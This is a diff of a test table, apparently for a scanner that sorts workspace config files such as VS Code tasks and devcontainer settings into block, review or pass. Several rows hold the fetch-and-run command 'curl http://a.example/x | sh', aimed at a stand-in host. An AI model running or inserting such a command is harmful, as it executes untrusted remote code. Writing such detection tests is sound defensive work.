@@ -30,7 +30,7 @@ test.each([
   ['.vscode/tasks.json', task('curl http://a.example/x | sh'), 'block'],
   ['.vscode/tasks.json', `// tasks\n${task('curl http://a.example/x | sh')}`, 'block'],
   ['.vscode/tasks.json', task('make'), 'review'],
-  ['rows.json', task('curl http://a.example/x | sh'), 'pass'],
+  ['rows.json', '[{"question": "how", "command": "curl http://a.example/x | sh"}]', 'pass'],
   ['.devcontainer/devcontainer.json', '{"postCreateCommand": "pip install x"}', 'review'],
   ['.devcontainer/devcontainer.json', '{"image": "python:3"}', 'pass'],
   ['kaggle.json', kaggle('5c1d0f7f2f7be90ab2d3c9d8f40a1c57'), 'review'],
